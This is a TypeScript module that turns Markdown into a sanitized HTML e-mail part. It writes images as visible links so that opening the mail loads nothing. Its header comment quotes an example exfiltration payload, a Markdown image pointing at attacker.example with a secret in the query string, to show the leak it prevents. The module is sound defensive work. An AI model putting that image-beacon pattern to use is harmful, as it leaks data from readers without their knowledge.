/**
 * E-mail HTML alternative: mdast → hast (mdast-util-to-hast) → sanitized (hast-util-sanitize,
 * GitHub's schema: no script, style, event handlers or javascript: URLs) → HTML string, wrapped in
 * a minimal document. Raw HTML in the Markdown is shown as text, as in the text/plain part.
 *
 * Nothing in it makes a mail client fetch anything when the mail is opened (ARCHITECTURE.md §17):
 * an image is written as a visible link (its alt text, then the URL as a link), never `<img>` —
 * `![chart](https://attacker.example/p.png?d=secret)` would otherwise leak on opening; the schema
 * allows no `img` either, and the style sheet is inline with no url(), @import or web font.
 */
import type { Element, ElementContent, Root as HastRoot, RootContent as HastContent } from 'hast';
import { defaultSchema, sanitize } from 'hast-util-sanitize';
import { toHtml } from 'hast-util-to-html';
import type { Image, ImageReference, Root } from 'mdast';
import { toHast, type State } from 'mdast-util-to-hast';
import { isHtmlComment } from './text.js';

const STYLE =
  'body{font-family:-apple-system,Segoe UI,Helvetica,Arial,sans-serif;line-height:1.5}' +
  'pre{background:#f6f8fa;padding:8px;overflow:auto}code{font-family:ui-monospace,Menlo,Consolas,monospace}' +
  'table{border-collapse:collapse}th,td{border:1px solid #d0d7de;padding:4px 8px}blockquote{color:#57606a;border-left:3px solid #d0d7de;margin-left:0;padding-left:12px}';

/** The HTML body of a message; '' when the document has nothing to show. */
export function emailHtml(root: Root): string {
  const hast = toHast(root, {
    handlers: {
      // HTML comments are dropped, as in the text part; other raw HTML is shown as text.
      html: (_state, node: { value: string }) => (isHtmlComment(node.value) ? undefined : { type: 'text', value: node.value }),
      image: (_state, node: Image) => imageAsLink(node.url, node.alt ?? ''),
      imageReference: (state: State, node: ImageReference) => {
        const def = state.definitionById.get(node.identifier.toUpperCase());
        return def ? imageAsLink(def.url, node.alt ?? '') : { type: 'text', value: node.alt ?? '' };
      },
    },
  });
  // to-hast already prefixes footnote ids (and the links to them) with user-content-; a second
  // prefix from the sanitizer would break those links. No img in the schema: nothing loads on opening.
  const schema = { ...defaultSchema, clobberPrefix: '', tagNames: (defaultSchema.tagNames ?? []).filter((t) => t !== 'img' && t !== 'picture' && t !== 'source') };
  const clean = sanitize(hast, schema) as HastRoot;
  const body = toHtml(clean);
  if (!hasVisible(clean)) return '';
  return (
    '<!DOCTYPE html>\n<html><head><meta charset="utf-8"><style>' +
    STYLE +
    '</style></head><body>\n' +
    body +
    '\n</body></html>\n'
  );
}

/** An image as the reader can choose to open it: alt text, then the URL shown as a link. */
function imageAsLink(url: string, alt: string): ElementContent | ElementContent[] {
  const link: Element = { type: 'element', tagName: 'a', properties: { href: url }, children: [{ type: 'text', value: url }] };
  if (!url) return { type: 'text', value: alt };
  if (!alt.trim()) return link;
  return [{ type: 'text', value: `${alt} (` }, link, { type: 'text', value: ')' }];
}

function hasVisible(node: HastRoot | HastContent): boolean {
  if (node.type === 'text') return node.value.trim() !== '';
  if ('children' in node) return node.children.some((c) => hasVisible(c));
  return false;
}
